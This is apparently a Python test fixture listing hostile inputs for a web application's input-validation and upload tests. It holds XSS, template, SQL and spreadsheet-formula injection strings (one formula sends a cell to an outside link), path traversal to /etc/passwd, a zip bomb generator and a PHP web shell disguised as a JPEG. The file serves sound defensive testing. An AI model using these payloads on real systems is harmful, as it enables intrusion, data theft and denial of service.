"""Hostile inputs: what a careless paste, a confused spreadsheet or an attacker may send.

TEXT entries are (label, value); a value is `str`, or `bytes` for byte sequences that are not
valid UTF-8 (sent percent-encoded). FILES are (label, file name, content, content type): what an
evidence upload or an import may receive.
"""

import io
import zipfile

TEN_MB = 10 * 1024 * 1024

TEXT = [
    # Cross-site scripting, in every shape a field may be rendered in
    ("script tag", "<script>alert('xss')</script>"),
    ("img onerror", '"><img src=x onerror=alert(1)>'),
    ("svg onload", "<svg/onload=alert(1)>"),
    ("javascript url", "javascript:alert(document.cookie)"),
    ("iframe", "<iframe src=javascript:alert(1)></iframe>"),
    ("closing textarea", "</textarea><script>alert(1)</script>"),
    ("attribute break", '" onmouseover="alert(1)'),
    ("single quote attribute break", "' autofocus onfocus='alert(1)"),
    ("style tag", "<style>*{display:none}</style>"),
    ("html comment", "<!-- unterminated"),
    ("cdata", "]]><x>"),
    ("pre-escaped entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("data url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("closing title", "</title><script>alert(1)</script>"),
    ("json break", '"}];alert(1);//'),
    # Template syntax (Django, Jinja and others)
    ("django variable", "{{ settings.SECRET_KEY }}"),
    ("django tag", "{% debug %}"),
    ("arithmetic", "{{7*7}}"),
    ("dollar template", "${7*7}"),
    ("erb", "<%= 7*7 %>"),
    ("load tag", "{% load static %}{% static 'x' %}"),
    # SQL fragments
    ("or true", "' OR '1'='1"),
    ("drop table", "1; DROP TABLE commitments_commitment;--"),
    ("union select", "1 UNION SELECT password FROM auth_user--"),
    ("like wildcard percent", "%"),
    ("like wildcard underscore", "_"),
    ("backslash", "\\"),
    ("quote paren", "'); --"),
    # Spreadsheet formulas (CSV/Excel injection)
    ("formula sum", "=1+1"),
    ("formula hyperlink", '=HYPERLINK("http://example.com/?leak="&A1,"click")'),
    ("dde", "+cmd|' /C calc'!A0"),
    ("minus formula", "-2+3"),
    ("at formula", "@SUM(1,1)"),
    ("tab formula", "\t=1+1"),
    ("carriage return formula", "\r=1+1"),
    # Sizes
    ("ten megabytes", "A" * TEN_MB),
    ("long urdu", "ا" * 100_000),
    ("one past a title", "x" * 301),
    ("many lines", "\n" * 5000),
    # Control characters and Unicode
    ("null byte", "abc\x00def"),
    ("only a null byte", "\x00"),
    ("invalid utf-8", b"\xff\xfe\xfd"),
    ("truncated utf-8", b"abc\xd8"),
    ("overlong utf-8", b"\xc0\xaf"),
    ("right-to-left override", "\u202egnp.exe"),
    ("bidi isolate", "\u2066abc\u2069\u200f"),
    ("urdu", "پاکستان کے انسانی حقوق کے وعدے"),
    ("urdu digits", "اردو متن ۱۲۳۴"),
    ("combining marks", "Z̷̢͎a̴l̵g̶o̸"),
    ("emoji", "💥" * 1000),
    ("zero width", "\u200b\u200c\u200d\ufeff"),
    ("crlf header injection", "x\r\nSet-Cookie: hacked=1"),
    ("empty", ""),
    ("whitespace only", "   \t  "),
    # Dates
    ("zero date", "0000-00-00"),
    ("far future", "9999-12-31"),
    ("five digit year", "10000-01-01"),
    ("thirtieth of february", "2024-02-30"),
    ("thirteenth month", "2024-13-01"),
    ("before instruments", "1900-01-01"),
    ("date with time", "2024-01-01T00:00:00Z"),
    # Numbers and ids
    ("negative", "-1"),
    ("zero", "0"),
    ("huge integer", "99999999999999999999999999999"),
    ("float overflow", "1e308"),
    ("nan", "NaN"),
    ("infinity", "Infinity"),
    ("hex", "0x1F"),
    ("fraction", "1.5"),
    ("superscript digit", "²"),
    ("superscript number", "¹²³"),
    ("arabic-indic digits", "٣٤"),
    ("fullwidth digits", "１２"),
    ("negative huge integer", "-99999999999999999999"),
    ("just past a 64-bit id", "9223372036854775808"),
    ("exponent", "1e3"),
    ("padded integer", " 7 "),
    ("non-numeric id", "abc"),
    # Paths and URLs
    ("path traversal", "../../../../etc/passwd"),
    ("windows traversal", "..\\..\\windows\\win.ini"),
    ("file url", "file:///etc/passwd"),
    ("encoded traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("open redirect", "//evil.example.com/"),
    ("absolute redirect", "https://evil.example.com/"),
]


# What a crafted request puts where an integer belongs (an id, a page, a page size, a row count):
# each must be refused with 400 or 404, or read as the number it is, and never answer 500.
INTEGER_SHAPES = [
    ("superscript digit", "²"),
    ("superscript number", "¹²³"),
    ("arabic-indic digits", "٣٤"),
    ("fullwidth digits", "１２"),
    ("huge integer", "99999999999999999999"),
    ("just past a 64-bit id", "9223372036854775808"),
    ("negative huge integer", "-99999999999999999999"),
    ("negative", "-1"),
    ("zero", "0"),
    ("non-numeric id", "abc"),
    ("fraction", "1.5"),
    ("exponent", "1e3"),
    ("hex", "0x10"),
    ("empty", ""),
    ("null byte", "1\x00"),
    ("four thousand digits", "9" * 4400),
]


def _zip_bomb():
    """A small archive that inflates to 200 MB: a spreadsheet or document to be opened with care."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (200 * 1024 * 1024))
    return buffer.getvalue()


_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def files():
    """(label, file name, content, declared content type)."""
    bomb = _zip_bomb()
    return [
        ("executable named pdf", "report.pdf", b"MZ\x90\x00" + b"\x00" * 200, "application/pdf"),
        ("html named pdf", "report.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"),
        (
            "svg with script",
            "chart.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "image/svg+xml",
        ),
        ("pdf and html polyglot", "poly.pdf", _PDF + b"<html><script>alert(1)</script></html>", "application/pdf"),
        ("pdf and zip polyglot", "poly.pdf", _PDF + bomb[:2000], "application/pdf"),
        ("zip bomb as xlsx", "import.xlsx", bomb, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        (
            "zip bomb as docx",
            "minutes.docx",
            bomb,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("path traversal name", "../../../etc/passwd.pdf", _PDF, "application/pdf"),
        ("windows traversal name", "..\\..\\boot.pdf", _PDF, "application/pdf"),
        ("null byte name", "minutes.pdf\x00.exe", _PDF, "application/pdf"),
        ("right-to-left name", "report\u202efdp.exe", _PDF, "application/pdf"),
        ("long name", "x" * 300 + ".pdf", _PDF, "application/pdf"),
        ("empty file", "empty.pdf", b"", "application/pdf"),
        ("php named jpeg", "photo.jpg", b"<?php system($_GET['c']); ?>", "image/jpeg"),
        ("csv with formulas", "import.csv", b'reference,title\n=1+1,"=HYPERLINK(""http://evil"")"\n', "text/csv"),
    ]


def as_text(value):
    """The value as text for display checks (invalid bytes as the replacement character)."""
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else value


assert len(TEXT) >= 60
assert len(INTEGER_SHAPES) >= 15
